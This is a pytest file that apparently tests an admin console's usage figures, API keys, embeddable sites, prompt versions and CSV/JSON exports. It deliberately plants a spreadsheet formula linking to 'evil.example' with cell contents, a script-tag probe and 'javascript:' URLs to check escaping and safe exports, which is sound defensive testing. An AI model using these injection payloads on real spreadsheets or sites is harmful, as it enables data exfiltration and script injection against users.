"""Prompts, keys, sites and usage in the console, and every export of it."""

import csv
import io
import json
import re
import sqlite3
import sys
import time
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from html import unescape

import httpx
import msgspec
import pytest
import sqlalchemy as sa
from console_parts import locked_console, looking

from app.llm.ledger import open_ledger
from app.llm.prompts.trials.answers import Taken
from app.llm.values import TokenCount
from app.ops.site import SiteOptions
from app.ops.sites import SiteStore
from app.ops.state import FEEDBACK, open_state
from app.settings import Settings
from app.spreadsheet import RISKY
from app.web.console.routes import PAGES
from tests.conftest import run_cli
from tests.llm.prompt_folder import SPLIT, folder
from tests.llm.spending_stores import Heard, attempt

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
MARKUP = "<script>alert(1)</script>"
QUESTIONS = (
    *("How many orders were placed in 2025?", "How many customers are there?", "How do I return an item?"),
    *("What is the meaning of life?", FORMULA, MARKUP),
)


@pytest.fixture(scope="module")
def console(serve, sample_home, tmp_path_factory):
    """A console with questions, ratings, spending, two versions of a prompt, keys and sites of nasty names."""
    home = tmp_path_factory.mktemp("ops-home")
    own = folder(tmp_path_factory.mktemp("own") / "prompts", split_md=SPLIT.replace("You ", "You, who help, ", 1))
    packaged = run_cli(home, "prompts", "label", "split", "candidate", "--note", FORMULA, "--by", FORMULA)
    assert packaged.returncode == 0, packaged.stderr
    with locked_console(serve, sample_home, home, ANSWERABLE_PROMPTS=str(own)) as (base, tokens):
        asked = [
            httpx.post(
                base + "/v1/ask",
                json={"question": question},
                headers={"Authorization": f"Bearer {tokens['owner']}"},
                timeout=60,
            ).json()
            for question in QUESTIONS
        ]
        _wait_for_traces(base, tokens["owner"], asked)
        _rate(home, asked)
        _spend(home, asked)
        yield base, tokens, home, asked


@pytest.fixture(scope="module")
def owner(console):
    base, tokens, *_ = console
    with looking(base, tokens["owner"]) as client:
        for path, form in (
            ("/console/keys", {"role": "visitor", "name": FORMULA}),
            ("/console/keys", {"role": "analyst", "name": MARKUP}),
            ("/console/sites", {"name": FORMULA, "origins": "https://a.example", "title": FORMULA}),
            ("/console/sites", {"name": MARKUP, "origins": "https://b.example", "greeting": MARKUP}),
        ):
            assert client.post(path, data=form).status_code == 303
        yield client


def _wait_for_traces(base, token, asked):
    for answer in asked:
        found = httpx.get(f"{base}/v1/answers/{answer['id']}", headers={"Authorization": f"Bearer {token}"}, timeout=30)
        assert found.status_code == 200


def _rate(home, asked):
    rows = [
        (asked[0]["id"], "up", []),
        (asked[1]["id"], "up", []),
        (asked[2]["id"], "down", ["wrong", "outdated"]),
        (asked[3]["id"], "down", ["wrong"]),
    ]
    with open_state(home / "state.db").begin() as connection:
        for answer, thumb, reasons in rows:
            row = {"answer_id": answer, "rater": "", "at": time.time(), "thumb": thumb, "comment": ""}
            connection.execute(sa.insert(FEEDBACK).values(row | {"reasons": json.dumps(reasons)}))


def _spend(home, asked):
    ledger = open_ledger(Settings(home=home), Heard())
    version = _packaged(home)
    common = {"answer_id": asked[0]["id"], "at": time.time() - 60, "task": "split", "prompt": version}
    for changed in (
        {"duration_s": 1.0, "cost_usd": Decimal("0.01"), "tokens": TokenCount(input=100, output=10)},
        {"duration_s": 3.0, "cost_usd": Decimal("0.02"), "purpose": "repair", "tokens": TokenCount(input=50, output=5)},
        {"duration_s": 2.0, "cost_usd": Decimal(0), "outcome": "invalid", "error": "invalid_output"},
        {"outcome": "cached", "cost_usd": Decimal(0), "saved_usd": Decimal("0.005")},
        {"provider": "p", "model": FORMULA, "sources": (FORMULA,), "cost_usd": None, "duration_s": 9.0},
    ):
        ledger.append(attempt(**(common | changed)))
    ledger.close()


def _packaged(home):
    return json.loads(run_cli(home, "prompts", "show", "split", "candidate", "--json").stdout)["id"]


def figures(client, name, **query):
    answer = client.get("/console/usage", params={"figures": name, "format": "json", "period": "24h"} | query)
    assert answer.status_code == 200, answer.text
    return answer.json()


# --- usage ---------------------------------------------------------------------------------------


def test_the_totals_are_those_of_the_questions_asked(owner, console):
    *_, asked = console
    (totals,) = figures(owner, "totals")
    assert totals["questions"] == len(asked)
    answered = sum(answer["status"] == "answered" for answer in asked)
    assert answered >= 3
    assert totals["answered_share"] == pytest.approx(answered / len(asked))
    assert totals["refused_share"] == pytest.approx(sum(a["status"] == "refused" for a in asked) / len(asked))
    assert (totals["thumbs_up"], totals["thumbs_down"], totals["thumbs_up_share"]) == (2, 2, 0.5)
    times = sorted(answer["timing_ms"]["total"] for answer in asked)
    assert (totals["p50_ms"], totals["p95_ms"]) == (times[2], times[5])


def test_status_and_route_of_each_hour_add_up(owner, console):
    *_, asked = console
    steps = figures(owner, "status")
    assert len(steps) in (24, 25)
    assert sum(step["questions"] for step in steps) == len(asked)
    for field, of in (("status", "answered"), ("status", "refused"), ("route", "tables"), ("route", "passages")):
        assert sum(step[of] for step in steps) == sum(answer[field] == of for answer in asked)


def test_figures_of_confidence_latency_sources_keys_and_reasons(owner, console):
    *_, asked = console
    bins = figures(owner, "confidence")
    assert sum(each["answered"] + each["others"] for each in bins) == len(asked)
    stages = {stage["stage"]: stage["answers"] for stage in figures(owner, "latency")}
    assert stages["total"] == len(asked)
    assert {each["name"] for each in figures(owner, "sources")} <= {"shop", "help-centre"}
    (key,) = figures(owner, "keys")
    assert (key["label"], key["count"]) == ("owners", len(asked))
    assert {each["name"]: each["count"] for each in figures(owner, "reasons")} == {"wrong": 2, "outdated": 1}


def test_cost_comes_from_the_ledger(owner):
    spends = {spend["name"]: spend for spend in figures(owner, "cost-model")}
    assert spends["main/gpt-5-mini"]["cost_usd"] == "0.03"
    assert spends["main/gpt-5-mini"]["saved_usd"] == "0.005"
    assert (spends[f"p/{FORMULA}"]["cost_usd"], spends[f"p/{FORMULA}"]["unpriced"]) == (None, 1)
    page = owner.get("/console/usage?period=24h").text
    assert "$0.03" in page and "1 calls have no known price" in page


def test_a_period_of_days_holds_what_was_asked_in_them(owner, console):
    *_, asked = console
    today = datetime.now(UTC).date()
    week = {"period": "custom", "from": str(today - timedelta(days=6)), "to": str(today)}
    (totals,) = figures(owner, "totals", **week)
    assert totals["questions"] == len(asked)
    assert len(figures(owner, "status", **week)) == 7
    before = {"period": "custom", "from": str(today - timedelta(days=9)), "to": str(today - timedelta(days=7))}
    (totals,) = figures(owner, "totals", **before)
    assert (totals["questions"], totals["answered_share"], totals["p50_ms"]) == (0, None, None)
    page = owner.get("/console/usage", params=before)
    assert page.status_code == 200 and "Nothing in this period" in page.text


@pytest.mark.parametrize(
    "query",
    [
        {"period": "1y"},
        {"period": "custom"},
        {"period": "custom", "from": "2026-02-30", "to": "2026-03-01"},
        {"period": "custom", "from": "2026-03-02", "to": "2026-03-01"},
        {"period": "custom", "from": "2020-01-01", "to": "2026-03-01"},
        {"period": "custom", "from": "0001-01-01", "to": "0001-01-02"},
        {"period": "custom", "from": '"><script>', "to": "9999-12-31"},
        {"period": "24h", "figures": "none", "format": "csv"},
    ],
)
def test_a_period_that_is_none_is_told_so(owner, query):
    answer = owner.get("/console/usage", params=query)
    assert answer.status_code == 400
    assert "<script>" not in answer.text


def test_each_picture_has_a_text_and_its_figures(owner):
    page = owner.get("/console/usage?period=24h").text
    pictures = re.findall(r'<svg class="chart"[^>]*role="img" aria-label="([^"]+)"', page)
    assert len(pictures) == page.count('<svg class="chart"') == page.count("The same figures as a table") >= 4
    assert any(said.startswith("Column chart: Questions by status; ") for said in pictures)


# --- keys ----------------------------------------------------------------------------------------


def test_a_key_is_shown_once_and_opens_what_it_should(owner, console):
    base, *_ = console
    day = (datetime.now(UTC) + timedelta(days=5)).date()
    sent = owner.post(
        "/console/keys", data={"role": "analyst", "name": "board", "sources": "shop", "expires": str(day)}
    )
    keys = owner.get("/console/keys?format=json").json()
    made = owner.get(sent.headers["location"])
    assert (sent.status_code, made.headers["cache-control"]) == (303, "private, no-store")
    again = owner.get(sent.headers["location"])
    assert "ak_" not in again.text and "not kept" in again.text
    assert owner.get("/console/keys?format=json").json() == keys
    token = re.search(r"ak_[\w-]+", made.text)[0]
    sources = httpx.get(base + "/v1/sources", headers={"Authorization": f"Bearer {token}"}).json()
    assert [source["name"] for source in sources["sources"]] == ["shop"]
    assert token not in str(made.url) and token.rpartition("_")[2] not in owner.get("/console/keys").text
    key = next(key for key in owner.get("/console/keys?format=json").json() if key["name"] == "board")
    assert (key["role"], key["sources"], key["state"]) == ("analyst", "shop", "expires soon")
    assert key["expires_at"] == f"{day}T23:59Z"


@pytest.mark.parametrize(
    "form",
    [
        {"role": "admin"},
        {"role": ""},
        {"role": "owner", "sources": "nowhere"},
        {"role": "owner", "expires": "2020-01-01"},
        {"role": "owner", "expires": "soon"},
        {"role": "owner", "name": "x" * 101},
        {"role": "owner", "name": "two\nlines"},
    ],
)
def test_a_key_that_cannot_be_is_not_made(owner, form):
    before = owner.get("/console/keys?format=json").json()
    answer = owner.post("/console/keys", data={"name": "kept & so", **form})
    assert answer.status_code == 400 and "ak_" not in answer.text and 'role="alert"' in answer.text
    assert "name" in form or 'value="kept &amp; so"' in answer.text
    assert form["role"] != "owner" or "<option selected>owner</option>" in answer.text
    assert owner.get("/console/keys?format=json").json() == before


def test_a_key_is_revoked_after_a_question(owner, console):
    base, *_ = console
    token = re.search(r"ak_([0-9a-f]+)_[\w-]+", _made(owner, "/console/keys", {"role": "visitor"}))
    asked = owner.get(f"/console/keys/{token[1]}/revoke")
    assert asked.status_code == 200 and "cannot be undone" in asked.text
    headers = {"Authorization": f"Bearer {token[0]}"}
    assert httpx.get(base + "/v1/sources", headers=headers).status_code == 200
    assert owner.post(f"/console/keys/{token[1]}/revoke").headers["location"] == "/console/keys"
    assert httpx.get(base + "/v1/sources", headers=headers).status_code == 401
    assert owner.get("/console/keys/none/revoke").status_code == 404
    assert owner.post("/console/keys/none/revoke").status_code == 404


@pytest.mark.parametrize("forged", ["ak_00000000_x", "own", "é"])
def test_only_the_token_of_the_key_itself_is_shown_on_its_page(owner, console, forged):
    _, tokens, *_ = console
    own = next(key["id"] for key in owner.get("/console/keys?format=json").json() if key["role"] == "visitor")
    value = tokens["owner"] if forged == "own" else forged
    page = owner.get(f"/console/keys/{own}", headers={"Cookie": _cookies(owner, value)})
    assert page.status_code == 200 and "ak_" not in page.text and "not kept" in page.text


def test_revoking_ones_own_key_is_warned_of(owner):
    own = next(key["id"] for key in owner.get("/console/keys?format=json").json() if key["role"] == "owner")
    page = owner.get(f"/console/keys/{own}/revoke").text
    assert "the key that you are logged in with" in page and "No other valid key is an owner" in page


def test_the_list_says_when_a_key_last_asked(owner):
    keys = owner.get("/console/keys?format=json").json()
    asked = {key["name"]: key["last_question_at"] for key in keys}
    assert asked["owners"].startswith(datetime.now(UTC).strftime("%Y-%m-")) and asked["visitors"] == ""


def _made(owner, path, form):
    """What is shown once of what a form makes."""
    return owner.get(owner.post(path, data=form).headers["location"]).text


def _cookies(owner, once):
    return f"answerable_console={owner.cookies['answerable_console']}; answerable_once={once}".encode()


# --- sites ---------------------------------------------------------------------------------------


def test_a_site_has_a_tag_and_a_secret_shown_once(owner, console):
    base, *_ = console
    form = {"name": "Help", "origins": "https://HELP.example.com/\nhttp://localhost:3000", "sources": "help-centre"}
    made = unescape(_made(owner, "/console/sites", form | {"handover": "mail", "target": "a@b.example"}))
    tag = re.search(rf'<script async src="{base}/widget.js" data-site="(pk_([0-9a-f]+)_[\w-]+)"></script>', made)
    secret = re.search(r"<textarea id=\"secret\"[^>]*>([\w-]+)</textarea>", made)[1]
    page = unescape(owner.get(f"/console/sites/{tag[2]}").text)
    assert tag[0] in page and secret not in page
    assert f"/ask?site={tag[1]}" in page
    listed = next(site for site in owner.get("/console/sites?format=json").json() if site["name"] == "Help")
    assert listed["origins"] == ["https://help.example.com", "http://localhost:3000"]
    assert (listed["sources"], listed["handover"], listed["state"]) == (["help-centre"], "mail", "valid")


def test_a_site_is_changed_and_revoked(owner):
    made = _made(owner, "/console/sites", {"name": "Docs", "origins": "https://docs.example.com"})
    identity = re.search(r"pk_([0-9a-f]+)_", made)[1]
    form = {"name": "Docs 2", "origins": "https://docs2.example.com", "examples": "How?\n\nWhen?", "title": MARKUP}
    changed = owner.post(f"/console/sites/{identity}", data=form)
    assert (changed.status_code, changed.headers["location"]) == (303, f"/console/sites/{identity}")
    page = owner.get(f"/console/sites/{identity}").text
    assert "https://docs2.example.com" in page and "How?\nWhen?" in page and "https://docs.example.com" not in page
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page
    assert "cannot be undone" in owner.get(f"/console/sites/{identity}/revoke").text
    assert owner.post(f"/console/sites/{identity}/revoke").status_code == 303
    site = next(site for site in owner.get("/console/sites?format=json").json() if site["id"] == identity)
    assert (site["name"], site["state"]) == ("Docs 2", "revoked")


def test_a_site_gets_another_last_day_and_none(owner):
    form = {"name": "Fair", "origins": "https://fair.example.com", "expires": "2100-12-31"}
    made = _made(owner, "/console/sites", form)
    path = f"/console/sites/{re.search(r'pk_([0-9a-f]+)_', made)[1]}"
    assert "2100-12-31 23:59" in made and 'value="2100-12-31"' in made
    for day, shown in (("2100-12-31", "2100-12-31 23:59"), ("2101-01-31", "2101-01-31 23:59"), ("", "never")):
        assert owner.post(path, data=form | {"expires": day}).status_code == 303
        assert f"<dt>Expires</dt><dd>{shown}" in owner.get(path).text
    refused = owner.post(path, data=form | {"expires": "2020-01-01", "title": "kept"})
    assert refused.status_code == 400 and 'value="kept"' in refused.text and 'value="2020-01-01"' in refused.text


def test_a_site_of_a_source_that_is_gone_stays_limited_to_it(owner, console):
    home = console[2]
    options = SiteOptions(name="Old", origins=("https://old.example.com",), sources=("gone",))
    site, _ = SiteStore(home / "state.db").add(options)
    page = owner.get(f"/console/sites/{site.id}").text
    assert '<input type="checkbox" name="sources" value="gone" checked>' in page
    form = {"name": "Old", "origins": "https://old.example.com", "sources": "gone", "title": "Ask"}
    assert owner.post(f"/console/sites/{site.id}", data=form).status_code == 303
    sites = {each["id"]: each for each in owner.get("/console/sites?format=json").json()}
    assert (sites[site.id]["sources"], sites[site.id]["title"]) == (["gone"], "Ask")


@pytest.mark.parametrize(
    ("form", "said"),
    [
        ({"name": "", "origins": "https://a.example"}, "no name"),
        ({"name": "a", "origins": ""}, "no origin"),
        ({"name": "a", "origins": "https://a.example/path"}, "not an origin"),
        ({"name": "a", "origins": "https://*.example"}, "not an origin"),
        ({"name": "a", "origins": "javascript:alert(1)"}, "not an origin"),
        ({"name": "a", "origins": "https://a.example", "handover": "link", "target": "javascript:x"}, "hand-over"),
        ({"name": "a", "origins": "https://a.example", "handover": "fax"}, "hand-over"),
        ({"name": "a", "origins": "https://a.example", "sources": "nowhere"}, "no source"),
        ({"name": "a", "origins": "https://a.example", "greeting": "x" * 501}, "500 characters"),
        ({"name": "a", "origins": "\n".join(f"https://{at}.example" for at in range(21))}, "20 lines"),
    ],
)
def test_a_site_that_cannot_be_comes_back_with_what_is_wrong(owner, form, said):
    before = owner.get("/console/sites?format=json").json()
    answer = owner.post("/console/sites", data=form)
    assert answer.status_code == 400
    assert said in unescape(answer.text) and 'role="alert"' in answer.text
    assert f'value="{form["name"]}"' in answer.text
    assert owner.get("/console/sites?format=json").json() == before


# --- prompts -------------------------------------------------------------------------------------


def test_prompts_are_listed_with_where_they_come_from_and_their_use(owner):
    rows = {row["name"]: row for row in owner.get("/console/prompts?format=json").json()}
    assert set(rows) == {"route", "rewrite", "split", "plan_sql", "write", "judge"}
    split = rows["split"]
    assert (split["comes_from"], split["versions"], rows["write"]["comes_from"]) == (
        "ANSWERABLE_PROMPTS",
        2,
        "packaged",
    )
    assert (split["calls"], split["failed"], split["repairs"], split["cost_usd"]) == (4, 1, 1, "0.03")


def test_a_version_has_its_labels_and_its_use(owner, console):
    *_, home, _ = console
    versions = {row["version"]: row for row in owner.get("/console/prompts/split?format=json").json()}
    used = versions[_packaged(home)]
    assert (used["calls"], used["cached"], used["failed"], used["repairs"]) == (4, 1, 1, 1)
    assert (used["p50_s"], used["p95_s"], used["cost_usd"]) == (2.0, 9.0, "0.03")
    assert (used["labels"], used["in_files"]) == (["candidate"], False)


def test_two_versions_are_compared_line_by_line(owner, console):
    *_, home, _ = console
    packaged = _packaged(home)
    page = owner.get("/console/prompts/split", params={"before": packaged, "after": "file"}).text
    added = [unescape(line) for line in re.findall(r"<ins>\+(.*)</ins>", page)]
    removed = [unescape(line) for line in re.findall(r"<del>-(.*)</del>", page)]
    assert added and removed and not set(added) & set(removed)
    same = owner.get("/console/prompts/split", params={"before": "file", "after": "file"}).text
    assert "Both are" in same and "<ins" not in same


def test_a_label_is_moved_with_a_note_and_seen_by_the_command(owner, console):
    *_, home, _ = console
    form = {"label": "production", "version": _packaged(home), "note": "the own one is worse"}
    moved = owner.post("/console/prompts/split/label", data=form)
    assert (moved.status_code, moved.headers["location"]) == (303, "/console/prompts/split#labels")
    (change,) = json.loads(run_cli(home, "prompts", "history", "split", "--label", "production", "--json").stdout)
    assert (change["after"], change["note"]) == (_packaged(home), "the own one is worse")
    assert re.fullmatch(r"owners \([0-9a-f]{8}\)", change["by"])
    row = next(row for row in owner.get("/console/prompts?format=json").json() if row["name"] == "split")
    assert row["version_in_force"] == _packaged(home) != row["file"]
    assert "the own one is worse" in owner.get("/console/prompts/split").text
    assert owner.post("/console/prompts/split/label", data=form | {"version": ""}).status_code == 303
    row = next(row for row in owner.get("/console/prompts?format=json").json() if row["name"] == "split")
    assert row["version_in_force"] == row["file"]


@pytest.mark.parametrize(
    ("form", "status"),
    [
        ({"label": "production", "version": "file", "note": ""}, 400),
        ({"label": "production", "version": "0000000", "note": "x"}, 404),
        ({"label": "Not A Label", "version": "file", "note": "x"}, 400),
        ({"label": "file", "version": "file", "note": "x"}, 400),
        ({"label": "never-set", "version": "", "note": "x"}, 404),
        ({"label": "production", "version": "file", "note": "x" * 501}, 400),
    ],
)
def test_a_label_that_cannot_be_moved_is_not(owner, console, form, status):
    *_, home, _ = console
    with sqlite3.connect(home / "state.db") as connection:
        before = connection.execute("SELECT count(*) FROM prompt_labels").fetchone()
        assert owner.post("/console/prompts/write/label", data=form).status_code == status
        assert connection.execute("SELECT count(*) FROM prompt_labels").fetchone() == before


def test_the_last_tests_are_shown(owner, console, tmp_path):
    *_, home, _ = console
    outputs = {
        "policy-and-count": ["What is the return window?", "How many returns were there in 2025?"],
        "it": ["one question"],
    }
    replies = tmp_path / "replies.jsonl"
    taken = [
        Taken(
            prompt=_packaged(home), case=case, model="a/m", output={"questions": output}, seconds=0.5, cost_usd="0.01"
        )
        for case, output in outputs.items()
    ]
    replies.write_bytes(b"".join(msgspec.json.encode(each) + b"\n" for each in taken))
    with_candidate = ("--label", "candidate", "--replies", str(replies), "--limit", "2")
    assert run_cli(home, "prompts", "test", "split", *with_candidate).returncode == 1
    page = owner.get("/console/prompts/split").text
    tests = page[page.index('id="tests"') :]
    assert ">1 of 2<" in tests and "<strong>it</strong>: " in tests and "a/m" in tests
    assert "policy-and-count" not in tests


def test_an_unknown_prompt_or_version_is_not_found(owner):
    assert owner.get("/console/prompts/nothing").status_code == 404
    assert owner.get("/console/prompts/split?version=abcdef0").status_code == 404
    for query in ({"version": MARKUP}, {"before": "file", "after": MARKUP}):
        answer = owner.get("/console/prompts/split", params=query)
        assert answer.status_code == 400 and MARKUP not in answer.text
    moved = {"label": "production", "version": "no-label", "note": "x"}
    assert owner.post("/console/prompts/split/label", data=moved).status_code == 400


# --- exports -------------------------------------------------------------------------------------


def with_exports():
    """Paths, as patterns, of the pages whose handler takes a format."""
    found = {}
    for handler in PAGES:
        if "Export" in str(handler.fn.__annotations__.values()):
            path = re.sub(r"\{[^}]*\}", "[^/?]+", next(iter(handler.paths)))
            found[path] = re.compile(f"/console{path if path != '/' else ''}(\\?.*)?")
    return found


def crawled(client, most=200):
    """The links to exports on all pages that the console leads to."""
    waiting, seen, exports = ["/console/usage?period=24h", "/console", "/console/keys"], set(), set()
    while waiting and len(seen) < most:
        path = waiting.pop(0)
        if path in seen:
            continue
        seen.add(path)
        answer = client.get(path)
        if not answer.headers["content-type"].startswith("text/html"):
            continue
        for link in re.findall(r'href="(/console[^"#]*)', answer.text):
            link = unescape(link)
            if re.search(r"[?&]format=(json|csv)", link):
                exports.add(link)
            elif "/static/" not in link and "/console/source/" not in link:  # files, and texts of documents
                waiting.append(link)
    return exports


@pytest.fixture
def long_cells():
    """The limit of the csv module is the process's: put back, or readers of delimited files would take any cell."""
    before = csv.field_size_limit(sys.maxsize)
    yield
    csv.field_size_limit(before)


@pytest.mark.usefixtures("long_cells")
def test_every_export_of_the_console_is_linked_and_safe_to_open(owner):
    links = crawled(owner)
    missing = [path for path, pattern in with_exports().items() if not any(pattern.fullmatch(link) for link in links)]
    assert missing == []
    planted = 0
    for link in sorted(link for link in links if "format=csv" in link):
        as_csv, as_json = owner.get(link), owner.get(link.replace("format=csv", "format=json"))
        assert as_csv.headers["content-type"].startswith("text/csv"), link
        assert as_json.headers["content-type"].startswith("application/json"), link
        for answer in (as_csv, as_json):
            assert answer.headers["content-disposition"].startswith("attachment;"), link
            assert answer.headers["cache-control"] == "private, no-store"
        rows = list(csv.reader(io.StringIO(as_csv.text)))
        objects = as_json.json()
        assert len(rows) == (len(objects) + 1 if objects else 0), link
        for row, plain in zip(rows[1:], objects, strict=True):
            assert list(plain) == rows[0], link
            assert [cell for cell in row if risky(cell)] == [], link
            planted += sum(FORMULA in cell for cell in row)
    assert planted >= 4


def risky(cell):
    try:
        float(cell)
    except ValueError:
        return cell.startswith(RISKY) or cell.lstrip().startswith(RISKY)
    return False
